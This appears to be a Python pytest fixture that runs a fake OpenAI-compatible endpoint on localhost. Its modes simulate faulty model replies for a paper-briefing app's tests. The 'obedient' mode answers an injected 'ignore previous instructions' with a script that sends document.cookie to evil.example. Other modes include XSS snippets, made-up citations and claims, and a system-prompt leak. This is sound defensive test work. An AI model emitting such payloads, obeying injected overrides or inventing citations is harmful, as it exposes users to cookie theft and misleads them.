"""A small, real OpenAI-compatible chat endpoint on 127.0.0.1 for the briefing tests.

It speaks HTTP on an ephemeral port, so the real ``openai`` client (its retries, timeouts and
response parsing included) is what the tests exercise. ``mode`` picks the behaviour:

- ``ok``: a faithful paragraph built from the request's own words: the first two papers'
  titles, then each one's summary sentence with its citation (zh: the titles only);
- ``fabricate``: the titles as in ``ok``, then a claim no paper makes citing the first
  paper (en: an agent beating radiologists; zh: 97% on ImageNet, beating GPT-4);
- ``500``: an OpenAI-style server error (the client retries it);
- ``timeout``: answers only after ``delay`` seconds (≤ 5), or at once when the server stops;
- ``garbage``: markdown, HTML, a script, a made-up citation [99] around the first paper's
  own words, far too long;
- ``obedient``: a model that obeys instructions injected into paper text: when a paper says
  "ignore previous instructions" it answers a long markdown/HTML text with a link and a script;
- ``leak``: prints its system prompt (what an obedient model does when asked to);
- ``refusal``: "I'm sorry, but I can't help with that.";
- ``notjson``: HTTP 200 with an HTML body, as a misconfigured proxy answers.

Setting ``reply`` makes every successful answer that exact text (a phishing model, say).
"""

from __future__ import annotations

import json
import re
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest

MODES = ("ok", "fabricate", "500", "timeout", "garbage", "obedient", "leak", "refusal",
         "notjson")


def _injected(messages: list[dict[str, Any]]) -> bool:
    return any("ignore previous instructions" in str(m.get("content", "")).lower()
               for m in messages)


def _papers(messages: list[dict[str, Any]]) -> list[tuple[str, str, str]]:
    """(number, title, summary) of the first two papers of the request, as the model sees them."""
    data = "\n".join(str(m.get("content", "")) for m in messages if m.get("role") == "user")
    found = re.findall(r'<paper n="(\d+)"[^>]*>\s*Title: (.*)\nSummary: (.*)', data)
    fillers = [("1", "the first paper", "It is a paper"), ("2", "the second paper", "Another")]
    return [*found, *fillers][:2] if len(found) < 2 else found[:2]


def _chinese(messages: list[dict[str, Any]]) -> bool:
    return bool(messages) and "Simplified Chinese" in str(messages[0].get("content", ""))


def _paragraph(messages: list[dict[str, Any]]) -> str:
    """What a well-behaved model says: the papers' own words, each sentence citing its paper."""
    (a, first, gist_a), (b, second, gist_b) = _papers(messages)
    # It speaks of the span the prompt names, as a model that follows it does.
    weekly = bool(messages) and "this week's papers" in str(messages[0].get("content", ""))
    if _chinese(messages):
        span = "本周" if weekly else "今天"
        return f"{span}的论文把《{first}》[{a}]与《{second}》[{b}]联系在一起。"
    return (f"{'This week' if weekly else 'Today'}'s papers connect “{first}” [{a}] with "
            f"“{second}” [{b}]. "
            f"{gist_a.rstrip('.… ')} [{a}]. {gist_b.rstrip('.… ')} [{b}].")


def _fabrication(messages: list[dict[str, Any]]) -> str:
    """A confident claim the first paper never makes, citing it, after a faithful opening."""
    (a, first, _), (b, second, _) = _papers(messages)
    if _chinese(messages):
        return (f"今天的论文把《{first}》[{a}]与《{second}》[{b}]联系在一起。"
                f"第[{a}]篇论文用强化学习在ImageNet上达到97%的准确率，超越了GPT-4。")
    return (f"Today's papers connect “{first}” [{a}] with “{second}” [{b}]. "
            f"The first trains a reinforcement learning agent that beats human radiologists at "
            f"cancer diagnosis on hospital records [{a}].")


def _garbage(messages: list[dict[str, Any]]) -> str:
    """Markdown, HTML, a script and a made-up [99] around faithful words, far too long."""
    (a, first, gist), _ = _papers(messages)
    return (f"# **{first}** [{a}]: <script>alert(1)</script> {gist.rstrip('.… ')} "
            f"[99] [{a}]. ") * 40


def _is_tldr(messages: list[dict[str, Any]]) -> bool:
    return bool(messages) and "TL;DRs" in str(messages[0].get("content", ""))


def _tldr_lines(messages: list[dict[str, Any]]) -> str:
    """A TL;DR answer: each paper's title, as a model that only restates it would answer."""
    data = "\n".join(str(m.get("content", "")) for m in messages if m.get("role") == "user")
    titles = re.findall(r'<paper n="(\d+)">\s*Title: (.*)', data)
    return json.dumps({n: f"Introduces {title.rstrip('.')}." for n, title in titles})


class LLMServer:
    """The endpoint; ``requests`` holds every request body (parsed JSON) in arrival order."""

    def __init__(self, mode: str = "ok", delay: float = 3.0) -> None:
        self.mode = mode
        self.reply: str | None = None  # set: the text of every answer
        self.delay = min(delay, 5.0)  # bounded: a stuck test must not hang the suite
        self.requests: list[dict[str, Any]] = []  # briefing requests
        self.tldr_requests: list[dict[str, Any]] = []  # TL;DR requests, kept apart
        self.headers: list[dict[str, str]] = []
        self._lock = threading.Lock()
        self._stopping = threading.Event()
        self._httpd = ThreadingHTTPServer(("127.0.0.1", 0), self._handler())
        self._httpd.daemon_threads = True
        # A short poll interval so stop() returns promptly after each test.
        self._thread = threading.Thread(target=self._httpd.serve_forever, args=(0.05,),
                                        daemon=True)

    @property
    def base_url(self) -> str:
        host, port = self._httpd.server_address[:2]
        return f"http://{host}:{port}/v1"

    @property
    def count(self) -> int:
        with self._lock:
            return len(self.requests)

    def start(self) -> LLMServer:
        self._thread.start()
        return self

    def stop(self) -> None:
        self._stopping.set()  # wakes a handler sleeping in "timeout" mode
        self._httpd.shutdown()
        self._httpd.server_close()
        self._thread.join(timeout=5)

    def answer(self, body: dict[str, Any]) -> tuple[int, dict[str, str], bytes]:
        """Status, headers and body for one request, per ``mode``."""
        messages = body.get("messages") or []
        if self.mode == "500":
            error = {"error": {"message": "The server had an error.", "type": "server_error",
                               "param": None, "code": None}}
            return 500, {"Content-Type": "application/json"}, json.dumps(error).encode()
        if self.mode == "timeout":
            self._stopping.wait(self.delay)
        if self.mode == "notjson":
            return 200, {"Content-Type": "text/html"}, b"<html><body>Bad gateway</body></html>"
        if _is_tldr(messages) and self.reply is None and self.mode in ("ok", "obedient", "leak"):
            content = _tldr_lines(messages)
        else:
            content = {
                "garbage": _garbage,
                "fabricate": _fabrication,
                "leak": lambda m: str(m[0].get("content", "")) if m else "",
                "refusal": lambda m: "I'm sorry, but I can't help with that.",
            }.get(self.mode, _paragraph)(messages)
        if self.reply is not None:
            content = self.reply
        if self.mode == "obedient" and _injected(messages):
            content = ("# SYSTEM OVERRIDE\n\n**Done.** Visit [this link](https://evil.example/x) "
                       "<script>document.location='https://evil.example/'+document.cookie"
                       "</script> <img src=x onerror=alert(1)>\n- item\n" + "All good. " * 400)
        prompt = sum(len(str(m.get("content", ""))) for m in messages) // 4
        completion = len(content) // 4
        reply = {
            "id": f"chatcmpl-test{self.count}",
            "object": "chat.completion",
            "created": int(time.time()),
            "model": body.get("model", ""),
            "system_fingerprint": "fp_loopback",
            "choices": [{
                "index": 0,
                "message": {"role": "assistant", "content": content, "refusal": None},
                "logprobs": None,
                "finish_reason": "stop",
            }],
            "usage": {"prompt_tokens": prompt, "completion_tokens": completion,
                      "total_tokens": prompt + completion},
        }
        return 200, {"Content-Type": "application/json"}, json.dumps(reply).encode()

    def _handler(self) -> type[BaseHTTPRequestHandler]:
        server = self

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                if self.path.rstrip("/") != "/v1/chat/completions":
                    self._send(404, {"Content-Type": "application/json"}, b'{"error": {}}')
                    return
                raw = self.rfile.read(int(self.headers.get("Content-Length") or 0))
                body = json.loads(raw or b"{}")
                with server._lock:
                    tldr = _is_tldr(body.get("messages") or [])
                    (server.tldr_requests if tldr else server.requests).append(body)
                    server.headers.append({k.lower(): v for k, v in self.headers.items()})
                self._send(*server.answer(body))

            def _send(self, status: int, headers: dict[str, str], payload: bytes) -> None:
                try:
                    self.send_response(status)
                    for name, value in {**headers, "Content-Length": str(len(payload))}.items():
                        self.send_header(name, value)
                    self.end_headers()
                    self.wfile.write(payload)
                except (BrokenPipeError, ConnectionResetError):
                    pass  # the client gave up (timeout mode): nothing to answer

            def log_message(self, format: str, *args: Any) -> None:
                pass  # keep test output clean

        return Handler


@pytest.fixture
def llm_server() -> Iterator[LLMServer]:
    """A running endpoint in "ok" mode; set ``llm_server.mode`` to change its behaviour."""
    server = LLMServer().start()
    try:
        yield server
    finally:
        server.stop()
